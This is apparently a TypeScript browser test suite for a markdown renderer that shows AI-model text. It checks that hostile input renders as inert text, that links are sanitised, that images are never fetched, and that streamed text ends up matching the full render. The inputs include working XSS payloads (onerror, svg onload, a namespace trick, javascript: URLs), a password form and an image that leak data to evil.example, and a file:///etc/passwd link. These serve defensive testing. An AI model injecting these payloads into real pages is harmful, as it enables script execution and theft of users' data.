import { fileURLToPath } from "node:url";
import { build } from "esbuild";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchBrowser, openPage } from "./support/browser.ts";

/** The renderer as the page has it, alone in a real browser. */
interface Renderer {
  renderMarkdown(text: string): string[];
  GrowingMarkdown: new () => { update(text: string): string[] };
}
declare const markdown: Renderer;

let browser: Browser;
let page: Page;
let faults: string[];

beforeAll(async () => {
  const entry = fileURLToPath(new URL("../web/markdown.ts", import.meta.url));
  const bundle = await build({
    entryPoints: [entry],
    bundle: true,
    write: false,
    format: "iife",
    globalName: "markdown",
  });
  browser = await launchBrowser();
  ({ page, faults } = await openPage(browser));
  await page.addScriptTag({ content: bundle.outputFiles[0]?.text ?? "" });
});
afterAll(() => browser?.close());

const render = (text: string): Promise<string> =>
  page.evaluate((it) => markdown.renderMarkdown(it).join(""), text);

describe("text of a model", () => {
  it.each([
    ["an event handler", '<img src=x onerror="alert(1)">'],
    ["a script", "<script>alert(1)</script>"],
    ["an inline script", "hello <script>alert(1)</script> there"],
    ["a frame", '<iframe src="//evil.example"></iframe>'],
    ["a style sheet", "<style>*{display:none}</style>"],
    ["a drawing", "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>"],
    ["a form", '<form action="//evil.example"><input name=password></form>'],
    ["a namespace trick", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
    ["HTML in a link's title", '[x](https://a.example "\\"><img src=x onerror=alert(1)>")'],
    ["HTML in a table", "|a|\n|-|\n|<img src=x onerror=alert(1)>|"],
    ["HTML in a heading", "# <b onclick=alert(1)>x</b>"],
  ])("shows %s as text and runs nothing", async (_, hostile) => {
    const found = await page.evaluate((it) => {
      const box = document.createElement("div");
      box.innerHTML = markdown.renderMarkdown(it).join("");
      document.body.append(box);
      const all = [...box.querySelectorAll("*")];
      const names = new Set(all.map((each) => each.localName));
      const handlers = all
        .flatMap((each) => each.getAttributeNames())
        .filter((name) => name.startsWith("on"));
      return {
        tags: ["img", "script", "iframe", "style", "svg", "form", "input", "math"].filter((tag) =>
          names.has(tag),
        ),
        handlers,
      };
    }, hostile);
    expect(found).toEqual({ tags: [], handlers: [] });
  });

  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.example",
    "/api",
    "&#106;avascript:alert(1)",
  ])("a link to %s is only its words", async (href) => {
    expect(await render(`[click](${href})`)).toBe("<p>click</p>\n");
  });

  it("a link that leads out opens elsewhere and tells nothing of where it came from", async () => {
    const html = await render("[shop](https://shop.example/?a=1&b=2)");
    expect(html).toContain('href="https://shop.example/?a=1&amp;b=2"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain("noopener noreferrer nofollow");
  });

  it("an image is never fetched: it becomes a link with its words", async () => {
    const html = await render("![chart](https://evil.example/x.png?secret=1)");
    expect(html).not.toContain("<img");
    expect(html).toContain("Image: chart</a>");
  });

  it("code keeps what is in it, and a wide block can be reached by keyboard", async () => {
    expect(await render("```html\n<b>&amp;</b>\n```")).toBe(
      '<pre tabindex="0"><code>&lt;b&gt;&amp;amp;&lt;/b&gt;</code></pre>',
    );
  });
});

const samples = [
  "# Title\n\nA **bold** and *soft* word, `code`, and [a link](https://a.example).\n\n- one\n- two\n  - deeper\n\n- loose\n\n1. first\n2. second\n\nEnd.",
  "Text\n---\nmore\n===\n\n> quote\n> more\n\n```js\nlet a = 1;\n\nlet b = 2;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n***\n\nlast",
  "See [the shop][1] and [2].\n\npara\n\npara\n\npara\n\n[1]: https://shop.example\n[2]: https://two.example",
  "- [ ] open\n- [x] done\n\n    indented code\n\ntext with <b>html</b>\n\n<div>\nblock\n</div>\n\nafter",
];

describe("a text that grows", () => {
  it("ends as the finished text, whatever it was cut into on its way", async () => {
    for (const sample of samples) {
      for (const step of [1, 3, 17]) {
        const [grown, whole] = await page.evaluate(
          ([text, size]) => {
            const growing = new markdown.GrowingMarkdown();
            for (let end = size; end < text.length; end += size) growing.update(text.slice(0, end));
            return [growing.update(text).join(""), markdown.renderMarkdown(text).join("")] as const;
          },
          [sample, step] as const,
        );
        // References that are defined further down are known only once the text is whole.
        if (!sample.includes("][1]")) expect(grown).toBe(whole);
      }
    }
  });

  it("nothing of all this has run, asked or been fetched", () => {
    expect(faults).toEqual([]);
  });
});
